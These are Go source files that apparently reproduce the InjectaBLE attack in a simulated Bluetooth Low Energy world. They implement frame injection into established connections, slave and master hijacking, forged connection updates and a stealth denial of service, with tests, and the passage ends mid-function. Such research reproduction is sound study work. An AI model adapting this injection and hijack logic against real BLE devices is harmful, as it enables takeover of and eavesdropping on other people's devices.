	// channel-selection state.
	SlaveHijack  *SlaveHijack
	MasterHijack *MasterHijack
}

// NewAttacker builds the attack tooling on a stack.
func NewAttacker(stack *link.Stack, cfg InjectorConfig) *Attacker {
	s := NewSniffer(stack)
	return &Attacker{
		Stack:    stack,
		Sniffer:  s,
		Injector: NewInjector(stack, s, cfg),
	}
}

// --- Scenario A: illegitimately using a device functionality ---------------

// InjectWrite injects an ATT Write Command toward a characteristic handle
// (scenario A: trigger any feature the device exposes).
func (a *Attacker) InjectWrite(handle uint16, value []byte, done func(Report)) error {
	return a.Injector.Inject(ForgeATTWriteCommand(handle, value), done)
}

// ReadReport extends Report with the data extracted by an injected read.
type ReadReport struct {
	Report
	// Value is the attribute value from the slave's Read Response.
	Value []byte
	// Err is the ATT error if the slave refused the read.
	Err error
}

// InjectRead injects an ATT Read Request and extracts the slave's Read
// Response (scenario A, confidentiality variant).
func (a *Attacker) InjectRead(handle uint16, done func(ReadReport)) error {
	return a.Injector.Inject(ForgeATTReadRequest(handle), func(r Report) {
		rr := ReadReport{Report: r}
		if r.Success {
			rr.Value, rr.Err = parseReadResponse(r.Attempts[len(r.Attempts)-1].ResponsePDU)
		}
		if done != nil {
			done(rr)
		}
	})
}

// parseReadResponse digs the ATT Read Response out of the slave's L2CAP
// frame.
func parseReadResponse(raw []byte) ([]byte, error) {
	p, err := pdu.UnmarshalDataPDU(raw)
	if err != nil {
		return nil, fmt.Errorf("injectable: response: %w", err)
	}
	if len(p.Payload) < l2cap.HeaderSize+1 {
		return nil, fmt.Errorf("injectable: response carries no ATT PDU")
	}
	attPDU := p.Payload[l2cap.HeaderSize:]
	switch att.Opcode(attPDU[0]) {
	case att.OpReadRsp:
		return append([]byte(nil), attPDU[1:]...), nil
	case att.OpError:
		if len(attPDU) == 5 {
			return nil, &att.Error{
				Request: att.Opcode(attPDU[1]),
				Handle:  uint16(attPDU[2]) | uint16(attPDU[3])<<8,
				Code:    att.ErrorCode(attPDU[4]),
			}
		}
	}
	return nil, fmt.Errorf("injectable: unexpected ATT opcode %#02x", attPDU[0])
}

// --- Scenario B: hijacking the Slave role -----------------------------------

// SlaveHijack is an in-progress slave impersonation: the attacker serves
// the given GATT database to the legitimate master.
type SlaveHijack struct {
	Conn   *link.Conn
	GATT   *gatt.Server
	Report Report
	// mux keeps the L2CAP reassembly state reachable for snapshots.
	mux *l2cap.Mux
}

// HijackSlave injects LL_TERMINATE_IND to expel the slave (which the
// master never sees), then impersonates it with the provided GATT server
// (paper §VI-B, Fig. 6).
func (a *Attacker) HijackSlave(server *gatt.Server, done func(*SlaveHijack, error)) error {
	return a.Injector.Inject(ForgeTerminateInd(), func(r Report) {
		if !r.Success {
			done(nil, fmt.Errorf("injectable: terminate injection failed after %d attempts", r.AttemptCount()))
			return
		}
		st := a.Sniffer.State()
		a.Sniffer.Stop()
		// Time the adopted slave from where the *master's* anchor was
		// predicted, not from our injected frame (which fired one widening
		// earlier): the master keeps its own schedule.
		last := r.Attempts[len(r.Attempts)-1]
		conn, err := link.AdoptSlave(a.Stack, st.Params, st.Master, link.AdoptionState{
			EventCount: st.EventCount,
			SN:         st.SlaveSN,
			NESN:       st.SlaveNESN,
			LastAnchor: last.MasterAnchorEstimate,
		})
		if err != nil {
			done(nil, err)
			return
		}
		mux := wireServer(conn, server)
		a.SlaveHijack = &SlaveHijack{Conn: conn, GATT: server, Report: r, mux: mux}
		done(a.SlaveHijack, nil)
	})
}

// --- Scenario C: hijacking the Master role ----------------------------------

// UpdateParams are the forged CONNECTION_UPDATE values used to split the
// slave off the legitimate schedule.
type UpdateParams struct {
	// WinSize in 1.25 ms units (0 = 2).
	WinSize uint8
	// WinOffset in 1.25 ms units (0 = half the interval, giving the
	// MITM engine disjoint leg schedules).
	WinOffset uint16
	// Interval in 1.25 ms units (0 = keep the sniffed interval).
	Interval uint16
	// InstantLead is how many events ahead the instant is placed (0 = 12).
	InstantLead uint16
}

func (u *UpdateParams) applyDefaults(st *ConnState) {
	if u.WinSize == 0 {
		u.WinSize = 2
	}
	if u.Interval == 0 {
		u.Interval = st.Params.Interval
	}
	if u.WinOffset == 0 {
		u.WinOffset = u.Interval / 2
	}
	if u.InstantLead == 0 {
		u.InstantLead = 12
	}
}

// InjectConnectionUpdate injects a forged CONNECTION_UPDATE_IND and then
// leaves the connection alone: the slave adopts the new timing at the
// instant while the legitimate master keeps the old schedule, so the two
// silently split — the schedule-splitting update step of §VI-C without
// the role takeover (a stealth denial of service, and the attacker
// "update" goal of the scenario DSL).
func (a *Attacker) InjectConnectionUpdate(upd UpdateParams, done func(Report)) error {
	st0 := a.Sniffer.State()
	if st0 == nil {
		return fmt.Errorf("injectable: not synchronised")
	}
	upd.applyDefaults(st0)
	build := func(st *ConnState) pdu.DataPDU {
		forged := pdu.ConnectionUpdateInd{
			WinSize:   upd.WinSize,
			WinOffset: upd.WinOffset,
			Interval:  upd.Interval,
			Latency:   0,
			Timeout:   st.Params.Timeout,
			Instant:   st.EventCount + upd.InstantLead,
		}
		return pdu.DataPDU{
			Header:  pdu.DataHeader{LLID: pdu.LLIDControl},
			Payload: pdu.MarshalControl(forged),
		}
	}
	return a.Injector.InjectDynamic(build, done)
}

// MasterHijack is an in-progress master impersonation.
type MasterHijack struct {
	Conn   *link.Conn
	Client *gatt.Client
	Report Report
	// mux keeps the L2CAP reassembly state reachable for snapshots.
	mux *l2cap.Mux
}

// HijackMaster injects a forged CONNECTION_UPDATE and takes the master
// role on the new schedule at the instant; the legitimate master times out
// (paper §VI-C, Fig. 7 upper half).
func (a *Attacker) HijackMaster(upd UpdateParams, done func(*MasterHijack, error)) error {
	st0 := a.Sniffer.State()
	if st0 == nil {
		return fmt.Errorf("injectable: not synchronised")
	}
	upd.applyDefaults(st0)

	var forged pdu.ConnectionUpdateInd
	build := func(st *ConnState) pdu.DataPDU {
		forged = pdu.ConnectionUpdateInd{
			WinSize:   upd.WinSize,
			WinOffset: upd.WinOffset,
			Interval:  upd.Interval,
			Latency:   0,
			Timeout:   st.Params.Timeout,
			Instant:   st.EventCount + upd.InstantLead,
		}
		return pdu.DataPDU{
			Header:  pdu.DataHeader{LLID: pdu.LLIDControl},
			Payload: pdu.MarshalControl(forged),
		}
	}
	return a.Injector.InjectDynamic(build, func(r Report) {
		if !r.Success {
			done(nil, fmt.Errorf("injectable: update injection failed after %d attempts", r.AttemptCount()))
			return
		}
		a.takeoverAtInstant(forged, r, done)
	})
}

// takeoverAtInstant keeps following until the forged instant, then becomes
// the slave's master on the new schedule.
func (a *Attacker) takeoverAtInstant(forged pdu.ConnectionUpdateInd, r Report, done func(*MasterHijack, error)) {
	st := a.Sniffer.State()
	proceed := func() {
		oldInterval := st.IntervalDuration()
		a.Sniffer.Stop()
		// First new anchor: where the old schedule's instant anchor would
		// fall, plus transmit window delay and offset (we transmit at the
		// window start, as a real master would).
		span := sim.Duration(st.MissedEvents+1) * oldInterval
		delay := ble.ConnUnit + sim.Duration(forged.WinOffset)*ble.ConnUnit
		firstAnchor := st.LastAnchor.Add(span + delay)
		newParams := st.Params
		newParams.WinSize = forged.WinSize
		newParams.WinOffset = forged.WinOffset
		newParams.Interval = forged.Interval
		newParams.Latency = forged.Latency
		newParams.Timeout = forged.Timeout
		conn, err := link.AdoptMaster(a.Stack, newParams, st.Slave, link.AdoptionState{
			EventCount: forged.Instant,
			SN:         st.SlaveNESN,
			NESN:       !st.SlaveSN,
			LastAnchor: st.LastAnchor,
		}, firstAnchor)
		if err != nil {
			done(nil, err)
			return
		}
		client, mux := wireClient(conn)
		a.MasterHijack = &MasterHijack{Conn: conn, Client: client, Report: r, mux: mux}
		done(a.MasterHijack, nil)
	}
	if st.EventCount == forged.Instant {
		proceed()
		return
	}
	prev := a.Sniffer.OnEventClosed
	a.Sniffer.OnEventClosed = func(s *ConnState) {
		if prev != nil {
			prev(s)
		}
		if s.EventCount == forged.Instant {
			a.Sniffer.OnEventClosed = prev
			proceed()
		}
	}
}

// wireServer attaches a GATT server to an adopted slave connection.
func wireServer(conn *link.Conn, server *gatt.Server) *l2cap.Mux {
	mux := l2cap.NewMux(connSender{conn})
	server.ATT().SetSend(func(b []byte) { mux.Send(l2cap.CIDATT, b) })
	mux.Handle(l2cap.CIDATT, server.HandlePDU)
	conn.OnData = func(p pdu.DataPDU) { mux.HandlePDU(p) }
	server.ATT().Encrypted = conn.Encrypted
	return mux
}

// wireClient attaches a GATT client to an adopted master connection.
func wireClient(conn *link.Conn) (*gatt.Client, *l2cap.Mux) {
	mux := l2cap.NewMux(connSender{conn})
	client := gatt.NewClient(att.NewClient(func(b []byte) { mux.Send(l2cap.CIDATT, b) }))
	mux.Handle(l2cap.CIDATT, client.HandlePDU)
	conn.OnData = func(p pdu.DataPDU) { mux.HandlePDU(p) }
	return client, mux
}

// connSender adapts link.Conn to l2cap.Transport.
type connSender struct{ conn *link.Conn }

// Send implements l2cap.Transport.
func (s connSender) Send(llid pdu.LLID, payload []byte) { s.conn.Send(llid, payload) }
