package injectable

import (
	"testing"

	"injectable/internal/devices"
	"injectable/internal/host"
	"injectable/internal/link"
	"injectable/internal/phy"
	"injectable/internal/sim"
)

// newCSA2Rig builds the triangle with the central requesting Channel
// Selection Algorithm #2.
func newCSA2Rig(t *testing.T, seed uint64) *attackRig {
	t.Helper()
	w := host.NewWorld(host.WorldConfig{Seed: seed})
	rig := &attackRig{w: w}
	rig.bulb = devices.NewLightbulb(w.NewDevice(host.DeviceConfig{
		Name: "bulb", Position: phy.Position{X: 0, Y: 0},
	}))
	rig.phone = devices.NewSmartphone(w.NewDevice(host.DeviceConfig{
		Name: "phone", Position: phy.Position{X: 2, Y: 0},
	}), devices.SmartphoneConfig{
		ConnParams: link.ConnParams{Interval: 36, CSA2: true},
	})
	rig.attacker = w.NewDevice(host.DeviceConfig{
		Name: "attacker", Position: phy.Position{X: 1, Y: 1.732},
		ClockPPM: 20, ClockJitter: 500 * sim.Nanosecond,
	})
	rig.sniffer = NewSniffer(rig.attacker.Stack)
	rig.injector = NewInjector(rig.attacker.Stack, rig.sniffer, InjectorConfig{})
	return rig
}

// TestInjectionOverCSA2 verifies the paper's §III-B claim that the attack
// "can be easily adapted" to Channel Selection Algorithm #2: the sniffer
// follows the PRNG-driven hopping and the injection race works unchanged.
func TestInjectionOverCSA2(t *testing.T) {
	rig := newCSA2Rig(t, 61)
	rig.connectAndSync(t)
	st := rig.sniffer.State()
	if !st.Params.CSA2 {
		t.Fatal("sniffer did not pick up the ChSel negotiation")
	}

	frame := ForgeATTWriteCommand(rig.bulb.ControlHandle(), devices.PowerCommand(true))
	var rep *Report
	if err := rig.injector.Inject(frame, func(r Report) { rep = &r }); err != nil {
		t.Fatal(err)
	}
	rig.w.RunFor(30 * sim.Second)
	if rep == nil || !rep.Success {
		t.Fatalf("injection over CSA#2 failed: %+v", rep)
	}
	if !rig.bulb.On {
		t.Fatal("bulb not turned on")
	}
	if !rig.phone.Central.Connected() {
		t.Fatal("CSA2 connection broken by the injection")
	}
}

// TestSlaveHijackOverCSA2 runs scenario B on a CSA#2 connection.
func TestSlaveHijackOverCSA2(t *testing.T) {
	rig := newCSA2Rig(t, 62)
	rig.connectAndSync(t)
	a := rig.newAttacker()

	var hijack *SlaveHijack
	var herr error
	if err := a.HijackSlave(hackedServer(), func(h *SlaveHijack, err error) { hijack, herr = h, err }); err != nil {
		t.Fatal(err)
	}
	rig.w.RunFor(40 * sim.Second)
	if herr != nil || hijack == nil {
		t.Fatalf("hijack failed: %v", herr)
	}
	if !rig.phone.Central.Connected() {
		t.Fatal("master lost the CSA2 connection")
	}
	rig.w.RunFor(31 * sim.Second)
	var name []byte
	rig.phone.GATT().Read(3, func(v []byte, err error) {
		if err == nil {
			name = v
		}
	})
	rig.w.RunFor(2 * sim.Second)
	if string(name) != "Hacked" {
		t.Fatalf("forged name = %q over CSA2", name)
	}
}
