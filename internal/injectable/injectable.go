// Package injectable implements the InjectaBLE attack (Cayre et al., DSN
// 2021): injecting arbitrary frames into an established BLE connection by
// racing the legitimate master inside the slave's window-widened receive
// window.
//
// The package mirrors the paper's attack tool structure (§V-E):
//
//   - Sniffer: synchronises with a connection, either by capturing the
//     CONNECT_REQ (§V-C, "multiple approaches already exist") or by
//     recovering the parameters of an already-established connection with
//     the Ryan/BTLEJack techniques (CRCInit reversal, channel map and hop
//     interval inference) implemented in recovery.go;
//   - Injector: computes the receive window from the window-widening
//     formula (eq. 5), transmits the forged frame at the start of the
//     window with SN/NESN set per eq. 6, and decides success with the
//     heuristic of eq. 7;
//   - Scenarios A–D (§VI): triggering device features, hijacking the slave
//     with LL_TERMINATE_IND, hijacking the master with a forged
//     CONNECTION_UPDATE, and the full man-in-the-middle;
//   - a minimal attacker Link Layer ("legs") that impersonates either role
//     after a hijack, as the paper's dongle firmware does.
package injectable

import (
	"injectable/internal/ble"
	"injectable/internal/ble/csa"
	"injectable/internal/ble/pdu"
	"injectable/internal/link"
	"injectable/internal/sim"
)

// ConnState is the attacker's live view of a followed connection.
type ConnState struct {
	Params link.ConnParams
	Master ble.Address
	Slave  ble.Address

	// EventCount is the counter of the upcoming connection event.
	EventCount uint16
	// LastAnchor is the last observed anchor point (master frame start).
	LastAnchor sim.Time
	// AnchorKnown reports whether at least one anchor has been observed.
	AnchorKnown bool
	// MissedEvents counts events since the last observed anchor.
	MissedEvents uint16

	// Sequence state sniffed from the last packets of each role (eq. 6
	// inputs): the attacker needs the slave's SN and NESN.
	SlaveSN, SlaveNESN   bool
	HaveSlaveSeq         bool
	MasterSN, MasterNESN bool
	HaveMasterSeq        bool

	// AnchorJitterEWMA tracks the master's observed anchor-timing jitter
	// (|observed − predicted| smoothed): the attacker's measure of how
	// precisely the master keeps its schedule, which bounds how much
	// anchor bias the victim can absorb after an injection.
	AnchorJitterEWMA sim.Duration

	// LastEventSawSlave reports that the most recently observed event
	// contained a slave response — proof the slave is alive and back on
	// the master's schedule. The injector gates re-injection on it so
	// that repeated anchor-stealing cannot starve the victim connection
	// into a supervision timeout.
	LastEventSawSlave bool

	// Pending procedures observed in master traffic.
	PendingUpdate *pdu.ConnectionUpdateInd
	PendingChMap  *pdu.ChannelMapInd

	selector csa.Selector
}

// newConnState builds the state for freshly captured parameters.
func newConnState(params link.ConnParams, master, slave ble.Address) (*ConnState, error) {
	sel, err := newSelector(params)
	if err != nil {
		return nil, err
	}
	return &ConnState{Params: params, Master: master, Slave: slave, selector: sel}, nil
}

// ChannelFor returns the data channel of a connection event.
func (s *ConnState) ChannelFor(event uint16) uint8 { return s.selector.ChannelFor(event) }

// IntervalDuration returns the current connection interval.
func (s *ConnState) IntervalDuration() sim.Duration { return s.Params.IntervalDuration() }

// PredictedAnchor extrapolates the anchor of the upcoming event from the
// last observed anchor (eq. 3 applied MissedEvents+1 times).
func (s *ConnState) PredictedAnchor() sim.Time {
	return s.LastAnchor.Add(sim.Duration(s.MissedEvents+1) * s.IntervalDuration())
}

// InjectionSN computes the SN/NESN bits for a forged frame per the
// paper's eq. 6: SN_a = NESN_s and NESN_a = (SN_s + 1) mod 2.
func (s *ConnState) InjectionSN() (sn, nesn bool) {
	return s.SlaveNESN, !s.SlaveSN
}

// observeAnchorResidual folds one |observed − predicted| anchor residual
// into the jitter estimate.
func (s *ConnState) observeAnchorResidual(residual sim.Duration) {
	if residual < 0 {
		residual = -residual
	}
	if s.AnchorJitterEWMA == 0 {
		s.AnchorJitterEWMA = residual
		return
	}
	s.AnchorJitterEWMA = (s.AnchorJitterEWMA*4 + residual) / 5
}

// observeMaster folds a sniffed master packet into the state.
func (s *ConnState) observeMaster(p pdu.DataPDU) {
	s.MasterSN, s.MasterNESN = p.Header.SN, p.Header.NESN
	s.HaveMasterSeq = true
	if !p.IsControl() {
		return
	}
	ctrl, err := pdu.UnmarshalControl(p.Payload)
	if err != nil {
		return
	}
	switch m := ctrl.(type) {
	case pdu.ConnectionUpdateInd:
		upd := m
		s.PendingUpdate = &upd
	case pdu.ChannelMapInd:
		upd := m
		s.PendingChMap = &upd
	}
}

// observeSlave folds a sniffed slave packet into the state.
func (s *ConnState) observeSlave(p pdu.DataPDU) {
	s.SlaveSN, s.SlaveNESN = p.Header.SN, p.Header.NESN
	s.HaveSlaveSeq = true
}

// applyInstants applies pending updates whose instant matches the
// upcoming event, mirroring the slave's behaviour so the attacker stays
// synchronised. It returns the connection update applying now, if any.
func (s *ConnState) applyInstants() *pdu.ConnectionUpdateInd {
	if s.PendingChMap != nil && s.PendingChMap.Instant == s.EventCount {
		s.selector.SetChannelMap(s.PendingChMap.ChannelMap)
		s.Params.ChannelMap = s.PendingChMap.ChannelMap
		s.PendingChMap = nil
	}
	if s.PendingUpdate != nil && s.PendingUpdate.Instant == s.EventCount {
		upd := s.PendingUpdate
		s.PendingUpdate = nil
		s.Params.WinSize = upd.WinSize
		s.Params.WinOffset = upd.WinOffset
		s.Params.Interval = upd.Interval
		s.Params.Latency = upd.Latency
		s.Params.Timeout = upd.Timeout
		return upd
	}
	return nil
}

// newSelector picks CSA#1 or CSA#2 to match the victims.
func newSelector(params link.ConnParams) (csa.Selector, error) {
	if params.CSA2 {
		return csa.NewAlgorithm2(params.AccessAddress, params.ChannelMap)
	}
	return csa.NewAlgorithm1(params.Hop, params.ChannelMap)
}

// WindowWideningEstimate computes the attacker's estimate of the slave's
// receive-window widening (eq. 5) from the master's advertised SCA and an
// assumed slave SCA.
func WindowWideningEstimate(masterSCA ble.SCA, assumedSlavePPM float64, span sim.Duration) sim.Duration {
	return link.WindowWidening(masterSCA.WorstPPM(), assumedSlavePPM, span)
}
