package injectable

import (
	"fmt"

	"injectable/internal/ble"
	"injectable/internal/ble/crc"
	"injectable/internal/ble/pdu"
	"injectable/internal/link"
	"injectable/internal/medium"
	"injectable/internal/obs"
	"injectable/internal/phy"
	"injectable/internal/sim"
)

// jitteryMasterThreshold is the smoothed anchor jitter above which the
// master is treated as phone-grade.
const jitteryMasterThreshold = 3 * sim.Microsecond

// conservativeLead is the injection lead used against jittery masters:
// still far ahead of any plausible master arrival, while leaving the
// slave's widening enough slack to re-acquire the master afterwards.
const conservativeLead = 26 * sim.Microsecond

// InjectorConfig tunes the injection race.
type InjectorConfig struct {
	// AssumedSlavePPM is the slave sleep-clock accuracy assumed in the
	// widening estimate. The paper uses 20 ppm, "the worst case from the
	// attacker's perspective" (§V-C).
	AssumedSlavePPM float64
	// Guard delays the injection slightly past the estimated window open,
	// protecting against over-estimating the widening.
	Guard sim.Duration
	// MaxAttempts bounds the retry loop (0 = 200).
	MaxAttempts int
	// MaxLead caps how far before the predicted anchor the frame fires
	// (0 = 38 µs). Injecting at the very edge of a wide window steals the
	// slave's anchor so aggressively that the slave can then miss the
	// legitimate master (whose own anchor jitter eats the remaining
	// widening margin) and supervision-timeout the victim connection — a
	// DoS when the goal is stealth. 38 µs beats any realistic master to
	// the window while keeping the victim alive across the whole
	// evaluation sweep (EXPERIMENTS.md).
	MaxLead sim.Duration
	// InjectAtWindowCenter is an ablation switch (DESIGN.md §4.3): inject
	// at the predicted anchor instead of the window start, always losing
	// the race unless the master is late.
	InjectAtWindowCenter bool
	// DisableAdaptiveGuard freezes the guard across attempts (ablation):
	// without adaptation, a systematic early fire keeps missing the
	// slave's window.
	DisableAdaptiveGuard bool
}

func (c *InjectorConfig) applyDefaults() {
	if c.AssumedSlavePPM == 0 {
		c.AssumedSlavePPM = 20
	}
	if c.Guard == 0 {
		c.Guard = sim.Microsecond
	}
	if c.MaxAttempts == 0 {
		c.MaxAttempts = 200
	}
	if c.MaxLead == 0 {
		c.MaxLead = 38 * sim.Microsecond
	}
}

// AttemptOutcome classifies one injection attempt (paper Fig. 5).
type AttemptOutcome string

// Attempt outcomes.
const (
	// OutcomeSuccess: the heuristic of eq. 7 confirmed the injection.
	OutcomeSuccess AttemptOutcome = "success"
	// OutcomeTimingMismatch: a slave response was seen but not aligned to
	// the injected frame (the master won the race — situation c).
	OutcomeTimingMismatch AttemptOutcome = "timing-mismatch"
	// OutcomeSeqMismatch: response timing matched but SN/NESN did not
	// (collision corrupted the frame — situation b gone wrong).
	OutcomeSeqMismatch AttemptOutcome = "seq-mismatch"
	// OutcomeNoResponse: no slave frame observed at all.
	OutcomeNoResponse AttemptOutcome = "no-response"
)

// Attempt records one injection attempt.
type Attempt struct {
	Number    int
	Event     uint16
	Channel   uint8
	TxStart   sim.Time
	TxEnd     sim.Time
	Outcome   AttemptOutcome
	SlaveSeen bool
	SlaveAt   sim.Time
	// ResponsePDU is the raw slave response PDU (CRC-valid only) — an
	// injected Read Request's Read Response rides in here.
	ResponsePDU []byte
	// MasterAnchorEstimate is where the legitimate master's anchor was
	// predicted for this event: the injection fired one widening before
	// it. Role-adoption after a hijack times itself from this, not from
	// the injected frame's own start.
	MasterAnchorEstimate sim.Time
}

// Report summarises an injection run (what the paper's dongle notifies to
// the host: "the number of injection attempts before a successful
// injection").
type Report struct {
	Success  bool
	Attempts []Attempt
	// ConnectionLost reports that the followed connection died during the
	// injection run — on an encrypted link that *is* the observable
	// outcome (MIC-failure denial of service, paper §IV).
	ConnectionLost bool
}

// AttemptCount returns the number of attempts made.
func (r Report) AttemptCount() int { return len(r.Attempts) }

// String implements fmt.Stringer.
func (r Report) String() string {
	return fmt.Sprintf("injection{success=%t attempts=%d}", r.Success, len(r.Attempts))
}

// Injector performs the InjectaBLE race against a followed connection.
type Injector struct {
	stack   *link.Stack
	sniffer *Sniffer
	cfg     InjectorConfig

	active *injection

	// OnAttempt observes every settled injection attempt (instrumentation /
	// invariant checking). It fires after the attempt is recorded, before
	// any retry is armed.
	OnAttempt func(a Attempt)
}

// injection is one in-progress Inject call.
type injection struct {
	build    func(st *ConnState) pdu.DataPDU
	report   Report
	done     func(Report)
	txStart  sim.Time
	txEnd    sim.Time
	event    uint16
	channel  uint8
	deadline sim.EventRef
	snA      bool
	nesnA    bool
	lead     sim.Duration // estimated gap from tx start to the master's anchor
	widening sim.Duration // eq. 4 widening estimate used for this attempt
	// guard adapts upward on silent attempts: a no-response usually means
	// the frame fired before the slave's window opened (relative clock
	// drift ate the margin), so later attempts start slightly later.
	guard sim.Duration
}

// NewInjector builds an injector sharing the sniffer's radio.
func NewInjector(stack *link.Stack, sniffer *Sniffer, cfg InjectorConfig) *Injector {
	cfg.applyDefaults()
	return &Injector{stack: stack, sniffer: sniffer, cfg: cfg}
}

// Inject races payload into the followed connection, retrying until the
// success heuristic confirms it or MaxAttempts is exhausted. The PDU's
// SN/NESN bits are overwritten per eq. 6 before each attempt.
func (inj *Injector) Inject(payload pdu.DataPDU, done func(Report)) error {
	return inj.InjectDynamic(func(*ConnState) pdu.DataPDU { return payload }, done)
}

// InjectDynamic is Inject with a payload rebuilt before every attempt —
// needed when the frame embeds state that moves between attempts, like the
// instant of a forged CONNECTION_UPDATE (scenarios C and D).
func (inj *Injector) InjectDynamic(build func(st *ConnState) pdu.DataPDU, done func(Report)) error {
	if !inj.sniffer.Following() {
		return fmt.Errorf("injectable: sniffer is not following a connection")
	}
	if inj.active != nil {
		return fmt.Errorf("injectable: injection already in progress")
	}
	inj.active = &injection{build: build, done: done, guard: inj.cfg.Guard}
	// A dying connection (e.g. the MIC-failure DoS on an encrypted link)
	// must settle the injection rather than stall it.
	prevLost := inj.sniffer.OnLost
	inj.sniffer.OnLost = func() {
		inj.sniffer.OnLost = prevLost
		if prevLost != nil {
			prevLost()
		}
		if inj.active != nil {
			inj.active.report.ConnectionLost = true
			inj.finish()
		}
	}
	inj.armNextAttempt()
	return nil
}

// armNextAttempt waits for the next event boundary with fresh slave
// sequence state, then schedules the race.
func (inj *Injector) armNextAttempt() {
	if inj.active == nil {
		return // a stale event-close wrapper fired after the run finished
	}
	st := inj.sniffer.State()
	if st.AnchorKnown && st.HaveSlaveSeq && st.MissedEvents == 0 &&
		st.LastEventSawSlave && inj.safeEvent(st) {
		inj.scheduleAttempt()
		return
	}
	// Not ready: observe one more event.
	prev := inj.sniffer.OnEventClosed
	inj.sniffer.OnEventClosed = func(s *ConnState) {
		inj.sniffer.OnEventClosed = prev
		if prev != nil {
			prev(s)
		}
		inj.armNextAttempt()
	}
}

// safeEvent avoids injecting across a procedure instant, where the
// channel/timing for the next event is about to change.
func (inj *Injector) safeEvent(st *ConnState) bool {
	next := st.EventCount
	if st.PendingUpdate != nil && st.PendingUpdate.Instant == next {
		return false
	}
	if st.PendingChMap != nil && st.PendingChMap.Instant == next {
		return false
	}
	return true
}

// scheduleAttempt takes the radio and fires the forged frame at the
// estimated opening of the slave's widened receive window.
func (inj *Injector) scheduleAttempt() {
	st := inj.sniffer.State()
	act := inj.active
	span := sim.Duration(st.MissedEvents+1) * st.IntervalDuration()
	wEst := WindowWideningEstimate(st.Params.MasterSCA, inj.cfg.AssumedSlavePPM, span)
	maxLead := inj.cfg.MaxLead
	// A sloppy master (phone-grade anchor jitter) leaves the slave less
	// margin to re-acquire it after an anchor steal: back the lead off to
	// keep the victim connection alive (the attack's whole point is
	// stealth).
	if st.AnchorJitterEWMA > jitteryMasterThreshold && maxLead > conservativeLead {
		maxLead = conservativeLead
	}
	if wEst > maxLead {
		wEst = maxLead
	}

	offset := span - wEst + act.guard
	if inj.cfg.InjectAtWindowCenter {
		offset = span
	}
	act.lead = span - offset
	act.widening = wEst
	act.event = st.EventCount
	act.channel = st.ChannelFor(st.EventCount)

	// Forge the header per eq. 6 from the sniffed slave state.
	act.snA, act.nesnA = st.InjectionSN()
	p := act.build(st)
	p.Header.SN = act.snA
	p.Header.NESN = act.nesnA
	raw := p.Marshal()
	frame := medium.Frame{
		Mode:          phy.LE1M,
		AccessAddress: uint32(st.Params.AccessAddress),
		PDU:           raw,
		CRC:           crc.Compute(st.Params.CRCInit, raw),
	}

	inj.sniffer.Pause()
	inj.stack.Clock.AtLocalOffset(st.LastAnchor, offset, inj.stack.Name+":inject", func() {
		inj.fire(frame)
	})
}

// fire transmits the forged frame and observes the slave's reaction.
func (inj *Injector) fire(frame medium.Frame) {
	act := inj.active
	st := inj.sniffer.State()
	inj.stack.Radio.SetChannel(phy.Channel(act.channel))
	inj.stack.Radio.SetAccessAddress(frame.AccessAddress)
	act.txStart = inj.stack.Sched.Now()
	act.txEnd = act.txStart.Add(frame.AirTime())
	sim.Emit(inj.stack.Tracer, act.txStart, inj.stack.Name, "inject-tx", func() []sim.Field {
		return []sim.Field{sim.F("event", act.event), sim.F("ch", act.channel), sim.F("len", len(frame.PDU))}
	})
	// Open the forensics entry before the transmission hits the medium,
	// so the medium's tx/lock/collision events correlate to it.
	inj.stack.Obs.BeginAttempt(obs.AttemptStart{
		Attempt: len(act.report.Attempts) + 1,
		Event:   act.event, Channel: act.channel,
		TxStart: act.txStart, TxEnd: act.txEnd,
		Lead: act.lead, WideningEst: act.widening,
	})
	inj.stack.Radio.OnTxDone = func() {
		inj.stack.Radio.OnTxDone = nil
		inj.stack.Radio.OnFrame = inj.onResponse
		inj.stack.Radio.StartListening()
		// Give the slave T_IFS + a max-length response + margin.
		deadline := ble.TIFS + phy.LE1M.AirTime(ble.MaxDataPDULen+6) + 80*sim.Microsecond
		act.deadline = inj.stack.Sched.After(deadline, inj.stack.Name+":inject-timeout", func() {
			if inj.stack.Radio.Locked() || inj.stack.Radio.Acquiring() {
				return // response arriving; onResponse settles it
			}
			inj.settle(Attempt{
				Number: len(act.report.Attempts) + 1, Event: act.event,
				Channel: act.channel, TxStart: act.txStart, TxEnd: act.txEnd,
				Outcome:              OutcomeNoResponse,
				MasterAnchorEstimate: act.txStart.Add(act.lead),
			})
		})
	}
	inj.stack.Radio.Transmit(frame)
	_ = st
}

// onResponse applies the success heuristic (eq. 7) to the first frame
// heard after the injection.
func (inj *Injector) onResponse(rx medium.Received) {
	act := inj.active
	if act == nil {
		return
	}
	st := inj.sniffer.State()
	inj.stack.Sched.Cancel(act.deadline)
	inj.stack.Radio.OnFrame = nil
	inj.stack.Radio.StopListening()

	attempt := Attempt{
		Number: len(act.report.Attempts) + 1, Event: act.event,
		Channel: act.channel, TxStart: act.txStart, TxEnd: act.txEnd,
		SlaveSeen: true, SlaveAt: rx.StartAt,
		MasterAnchorEstimate: act.txStart.Add(act.lead),
	}

	// Condition 1 (timing): t_a + d_a + 150 − 5 < t_s < t_a + d_a + 150 + 5.
	expected := act.txEnd.Add(ble.TIFS)
	timingOK := rx.StartAt.After(expected.Add(-5*sim.Microsecond)) &&
		rx.StartAt.Before(expected.Add(5*sim.Microsecond))

	// Condition 2 (sequence): (SN_a+1) mod 2 == NESN'_s ∧ NESN_a == SN'_s.
	seqOK := false
	crcOK := crc.Check(st.Params.CRCInit, rx.Frame.PDU, rx.Frame.CRC)
	var resp pdu.DataPDU
	if crcOK {
		if p, err := pdu.UnmarshalDataPDU(rx.Frame.PDU); err == nil {
			resp = p
			seqOK = (resp.Header.NESN != act.snA) && (resp.Header.SN == act.nesnA)
			attempt.ResponsePDU = append([]byte(nil), rx.Frame.PDU...)
		}
	}

	switch {
	case timingOK && seqOK:
		attempt.Outcome = OutcomeSuccess
	case timingOK:
		attempt.Outcome = OutcomeSeqMismatch
	default:
		attempt.Outcome = OutcomeTimingMismatch
	}

	// Fold the observation back into the shared state.
	if crcOK {
		st.observeSlave(resp)
	}
	if attempt.Outcome == OutcomeSuccess {
		// The slave re-anchored on OUR frame.
		st.LastAnchor = act.txStart
		st.AnchorKnown = true
		st.MissedEvents = 0
	} else {
		// The master likely kept the anchor; we did not observe it.
		st.MissedEvents++
	}
	inj.settle(attempt)
}

// settle records the attempt and retries or completes.
func (inj *Injector) settle(a Attempt) {
	act := inj.active
	st := inj.sniffer.State()
	act.report.Attempts = append(act.report.Attempts, a)
